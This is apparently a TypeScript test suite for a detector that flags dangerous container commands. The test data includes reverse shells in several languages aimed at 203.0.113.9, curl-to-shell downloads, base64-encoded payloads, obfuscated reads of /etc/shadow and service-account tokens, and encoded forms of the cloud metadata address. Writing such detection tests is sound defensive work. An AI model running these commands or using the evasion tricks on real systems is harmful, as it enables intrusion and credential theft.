import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { containerCommandsOf, credentialsOf, traitsOf } from '../../../../shared/commands/command.ts';
import { metadataServicesIn } from '../../../../shared/commands/metadata-address.ts';
import { statementsOf } from '../../../../shared/commands/shell.ts';
import { processorTime } from '../../../support/processor-time.ts';

const sh = (script: string) => ['sh', '-c', script];
const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('a script is read as a shell reads it', () => {
  it.each<[string, readonly string[][]]>([
    ['c\'a\'t /etc/sh"ad"ow', [['cat', '/etc/shadow']]],
    ['a | b && c; d &', [['a'], ['b'], ['c'], ['d']]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's variable
    ['cat${IFS}/etc/shadow', [['cat', '/etc/shadow']]],
    ['cat</etc/shadow 2>/dev/null', [['cat', '<', '/etc/shadow', '2', '>', '/dev/null']]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's variable
    ['x=/etc/sha; cat ${x}dow $unknown', [['x=/etc/sha'], ['cat', '/etc/shadow', '$unknown']]],
    ["cat $'\\x2fetc\\057shadow'", [['cat', '/etc/shadow']]],
    ['echo "a; b" # c; d\ne', [['echo', 'a; b'], ['e']]],
    ['bash -c "$(curl x)" `id`', [['curl', 'x'], ['id'], ['bash', '-c', '', '']]],
    ['a\\\n b \\; c', [['a', 'b', ';', 'c']]],
    ['"unclosed', [['unclosed']]],
    ['', []],
  ])('%j', (script, words) => {
    expect(statementsOf(script).map((statement) => statement.words)).toEqual(words);
  });

  it('never throws, and takes linear time', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...'ab \\\'"`$(){}<>|&;\n=#*[]x0/.-')), (chars) => {
        const script = chars.join('');
        traitsOf(sh(script));
        credentialsOf([script, 'sh', '-c', script]);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each([
    'sh -c ',
    '$(',
    'a=$a$a;',
    '`',
    'curl|',
    '"$(',
    'echo Y3VybCB4IHwgc2g= | base64 -d | sh;',
    '/*',
    '::',
    '1.',
    'env ',
    "'",
    '[a-z',
    '{a,b}',
    '{',
    'cd /a;',
  ])('half a million characters of %j are read in a moment', (piece) => {
    const script = piece.repeat(Math.ceil(500_000 / piece.length));
    const taken = processorTime();
    for (const command of [sh(script), [script], script.split(' ')]) traitsOf(command);
    expect(taken()).toBeLessThan(5_000);
  });
});

describe('what a command does', () => {
  it.each<[readonly string[], readonly string[]]>([
    [sh('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), ['reverse shell']],
    [['nc', '203.0.113.9', '4444', '-e', '/bin/sh'], ['reverse shell']],
    [['busybox', 'nc', '-ne', '/bin/sh', '203.0.113.9', '1'], ['reverse shell']],
    [sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f'), ['reverse shell']],
    [['socat', 'TCP:203.0.113.9:1', 'EXEC:sh,pty'], ['reverse shell']],
    [
      ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",1));pty.spawn("sh")'],
      ['reverse shell'],
    ],
    [
      sh(`echo ${base64('bash -i >& /dev/tcp/203.0.113.9/1 0>&1')} | base64 -d | bash`),
      ['decoded script', 'reverse shell'],
    ],
    [sh('eval "$(echo aWQgPiAvdG1wL3gK | base64 --decode)"'), ['decoded script']],
    [sh('curl -s https://example.org/x.sh | bash'), ['download', 'downloaded script']],
    [sh('c""url -s https://example.org/x.sh|tee /x|sudo -u root b\\ash -s -- a'), ['download', 'downloaded script']],
    [sh('bash <(wget -qO- https://example.org/x.sh)'), ['download', 'downloaded script']],
    [sh('sh -c "$(curl -fsSL https://example.org/x.sh)"'), ['download', 'downloaded script']],
    [sh("printf 'curl https://example.org/x | sh' | sh"), ['download', 'downloaded script']],
    [sh("echo 'curl https://example.org/x | sh'"), []],
    [sh('curl -s https://example.org/x.json | python3 -m json.tool'), ['download']],
    [sh('curl -s http://localhost:8080/health'), []],
    [['curl', 'http://web.default.svc.cluster.local/ready'], []],
    [['wget', '-qO-', '127.0.0.1:9090/metrics'], []],
    [['curl', 'http://2130706433.example.org/'], ['download']],
    [['apt-get', '-y', 'install', 'nmap'], ['package manager']],
    [sh('apk --no-cache add curl'), ['package manager']],
    [['dpkg', '-l'], []],
    [['tar', 'cf', '-', '/data'], ['archive out']],
    [['tar', '-xmf', '-', '-C', '/tmp'], ['archive in']],
    [['tar', '--create', '--file=-', '/data'], ['archive out']],
    [['tar', 'czf', '/backup/data.tgz', '/data'], []],
    [['env'], ['environment dump']],
    [['nc', '-zv', 'db', '5432'], []],
    [['bash'], []],
    [sh('base64 -d /config/in > /config/out'), []],
    [['env', '-S', 'curl https://example.org/x'], ['download']],
    [sh('{curl,-s,https://example.org/x}|sh'), ['download', 'downloaded script']],
    [['perl', '-e', 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");'], ['reverse shell']],
    [['awk', 'BEGIN{s="/inet/tcp/0/203.0.113.9/1"}'], ['reverse shell']],
    [sh('/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:1 > /tmp/s'), ['reverse shell']],
    [sh('python3 - <<E\nimport socket,os\nos.dup2(s.fileno(),0)\nE'), ['reverse shell']],
    [['php', '-r', '$s=fsockopen("203.0.113.9",1);exec("sh <&3 >&3 2>&3");system("/bin/sh");'], ['reverse shell']],
    [sh('mkfifo /tmp/log; cat /tmp/log & until nc -z db 5432; do sleep 1; done; exec python app.py --socket x'), []],
    [['/bin/sh', '-c', `python -c 'import socket; socket.create_connection(("db", 5432))'`], []],
    [sh(`exec python -c 'import base64; print(base64.b64decode("eA=="))'`), []],
    [['python', '-c', 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'], ['decoded script']],
    [sh('until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'), []],
    [sh('timeout 1 bash -c "</dev/tcp/$DB_HOST/$DB_PORT"'), []],
    [sh('bash -i >& /dev/tcp/$HOST/1 0>&1'), ['reverse shell']],
    [sh('exec 3<>/dev/tcp/relay/1; sh <&3 >&3'), ['reverse shell']],
    [sh('echo stats | nc -w 1 localhost 11211 | grep bytes'), []],
    [['java', '-jar', '/app/curl-bash-installer.jar'], []],
  ])('%j', (command, traits) => {
    expect([...traitsOf(command)].sort()).toEqual(traits);
  });
});

describe('a word of a hundred thousand characters hides nothing', () => {
  const padding = 'v'.repeat(100_000);
  const spaces = ' '.repeat(100_000);
  it.each<[string, readonly string[], readonly string[]]>([
    ['an option before it', sh(`base64 -${padding}d /x | sh`), ['decoded script']],
    ['an option behind it', sh(`base64 -d${padding} /x | sh`), ['decoded script']],
    ['an option in its middle', sh(`base64 -${padding}d${padding} /x | sh`), ['decoded script']],
    [
      'a script behind options',
      ['sh', `-${padding}c`, 'curl https://example.org | sh'],
      ['download', 'downloaded script'],
    ],
    ['a mode of tar', ['tar', `${padding}c${padding}f`, '-', '/data'], ['archive out']],
    ['a package', ['rpm', `-${padding}i${padding}`, 'https://example.org/x.rpm'], ['package manager']],
    ['a shell for netcat', ['nc', `-${padding}e`, '/bin/sh', '203.0.113.9', '1'], ['reverse shell']],
    ['an address of socat', ['socat', `TCP:x,${padding},,EXEC:sh,${padding}`, '-'], ['reverse shell']],
    ['the end of a script', sh(`echo ${padding}; curl https://example.org | sh`), ['download', 'downloaded script']],
    [
      'the middle of a script',
      sh(`: ${padding}; curl https://example.org | sh; : ${padding}`),
      ['download', 'downloaded script'],
    ],
    ['what is split', ['env', '-S', `${spaces}curl https://example.org`], ['download']],
    ['what is evaluated', ['eval', `: ${padding};`, 'curl https://example.org'], ['download']],
    ['what is written', sh(`echo '${spaces}curl https://example.org' | sh`), ['download']],
    ['a here-string', sh(`sh <<< '${spaces}curl https://example.org'`), ['download']],
    ['code', ['python', '-c', `#${padding}\nimport base64; exec(base64.b64decode("eA=="))`], ['decoded script']],
    ['a URL', ['curl', `https://example.org/${padding}`], ['download']],
  ])('%s', (_what, command, traits) => {
    expect([...traitsOf(command)].sort()).toEqual(traits);
  });

  it('a file that it names', () => {
    expect([...credentialsOf(['cat', `${padding} /etc/shadow ${padding}`])]).toEqual(['password hashes']);
  });
});

describe('wrappers hide nothing from each other', () => {
  it.each<[readonly string[], readonly string[]]>([
    [['env', 'env'], ['environment dump']],
    [['env', 'env', '-S', 'curl https://example.org'], ['download']],
    [['sudo', 'env', 'eval', 'x', 'eval', 'curl https://example.org'], ['download']],
    [['env', '-u', 'sh', 'sh', '-c', 'curl https://example.org'], ['download']],
    [sh('sudo echo x echo "curl https://example.org" | sh'), ['download']],
  ])('%j', (command, traits) => {
    expect([...traitsOf(command)].sort()).toEqual(traits);
  });
});

describe('which credentials a command reaches for', () => {
  it.each<[readonly string[], readonly string[]]>([
    [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], ['service-account token']],
    [['cat', '/run//secrets/./x/../eks.amazonaws.com/serviceaccount/token'], ['service-account token']],
    [['ls', '/var/run/secrets'], ['service-account token']],
    [sh('cat /v*/r?n/se[c-d]rets/*/s*/t*'), ['service-account token']],
    [sh('cd /var/run; cat secrets/*/*/token'), ['service-account token']],
    [
      ['cat', '/proc/1/root/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token'],
      ['service-account token'],
    ],
    [sh('cd /var/run/secrets && ls'), ['service-account token']],
    [
      ['python3', '-c', "print(open('/run/secrets/kubernetes.io/serviceaccount/token').read())"],
      ['service-account token'],
    ],
    [
      sh(`$(echo ${base64('cat /run/secrets/kubernetes.io/serviceaccount/token')} | base64 -d)`),
      ['service-account token'],
    ],
    [['cat', '/proc/self/environ'], ['process environment']],
    [['cat', '/proc/7/task/7/environ'], ['process environment']],
    [sh('cat ~/.aws/credentials'), ['AWS credentials']],
    [sh('cat $AWS_WEB_IDENTITY_TOKEN_FILE'), ['AWS credentials']],
    [['cat', '/host/etc/shadow'], ['password hashes']],
    [sh('cat /e?c/sh?d?w'), ['password hashes']],
    [sh('cat /etc/{shadow,passwd}'), ['password hashes']],
    [sh('{cat,/etc/shadow}'), ['password hashes']],
    [['curl', 'file:///run/secrets/x'], ['service-account token']],
    [['curl', 'http://169.254.169.254/latest/meta-data/iam/'], ['instance metadata']],
    [['curl', '--proxy', 'x', '--url=http://0xa9.0xfe.43518/'], ['instance metadata']],
    [['cat', '/proc/cpuinfo'], []],
    [['ls', '/etc/ssl/certs'], []],
    [['ls', '/*/*/*'], []],
    [['cat', '/app/secrets.md', 'environ'], []],
    [['curl', 'http://10.0.0.1:8080/v1.2.3/12:30:45'], []],
  ])('%j', (command, credentials) => {
    expect([...credentialsOf(command)].sort()).toEqual(credentials);
  });

  it.each([
    '169.254.169.254',
    'http://169.254.169.254:80/latest',
    'http://2852039166/',
    'http://0xA9FEA9FE/',
    'http://0xa9.0xfe.0xa9.0xfe/',
    'http://0251.0376.0251.0376/',
    'http://0000251.0376.0251.0376/',
    'http://025177524776/',
    'http://169.254.43518/',
    'http://169.16689662/',
    'http://[fd00:ec2::254]/',
    'http://[fd00:0ec2:0:0::0:0254]/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://[::ffff:169.254.169.254]/',
    'http://[64:ff9b::a9fe:a9fe]/',
    'http://user@169.254.169.254/',
    'http://169.254.169.254.nip.io/',
    'http://instance-data/latest/',
    'http://１６９。254．169.254/',
    'http://x/latest/meta-data/',
  ])('%s is the instance metadata service', (text) => {
    expect([...metadataServicesIn(text)]).toEqual(['instance metadata']);
  });

  it.each(['http://169.254.170.23/v1/credentials', 'http://0xa9feaa17', 'http://[fd00:ec2::23]/', '169.254.170.2'])(
    '%s is pod identity',
    (text) => {
      expect([...metadataServicesIn(text)]).toEqual(['pod identity']);
    },
  );

  it.each([
    '169.254.169.253',
    '1169.254.169.254',
    '169.254.169.2545',
    '::',
    '::1',
    '2852039167',
    'a:b:c',
    '12:30:45',
    '1.2',
  ])('%s is something else', (text) => {
    expect([...metadataServicesIn(text)]).toEqual([]);
  });
});

describe('the commands of a container', () => {
  it('are its own, its hooks’ and its probes’', () => {
    expect(
      containerCommandsOf({
        command: ['sh', '-c'],
        args: ['a'],
        lifecycle: { postStart: { exec: { command: ['b'] } } },
        livenessProbe: { exec: { command: ['c'] } },
      }),
    ).toEqual([['sh', '-c', 'a'], ['b'], ['c']]);
  });

  it('are arguments to an unknown entrypoint, read as a script where they look like one', () => {
    expect(containerCommandsOf({ args: ['--port', '80'] })).toEqual([['--port', '80']]);
    expect(containerCommandsOf({ args: ['curl x | sh'] })).toEqual([['sh', '-c', 'curl x | sh']]);
    expect(containerCommandsOf({ args: ['-c', 'curl x | sh'] })).toEqual([['sh', '-c', 'curl x | sh']]);
    expect(containerCommandsOf({ command: 'no list', args: [7] })).toEqual([]);
  });
});
